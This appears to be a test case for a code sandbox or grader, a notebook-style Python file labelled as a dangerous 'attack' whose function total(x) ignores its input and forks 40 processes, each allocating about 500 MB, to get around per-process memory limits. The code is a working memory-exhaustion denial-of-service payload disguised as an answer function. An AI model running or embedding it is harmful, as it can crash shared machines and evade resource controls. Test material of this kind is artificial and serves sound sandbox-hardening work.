# ---
# jupyter:
#   attack:
#     tries: Allocates a little in each of many processes, so that no limit of one process stops it.
#     dangerous: true
# ---

# %% answer="total"
def total(x):
    import os
    import time

    for _ in range(40):
        if os.fork() == 0:
            kept = b"x" * 500_000_000
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
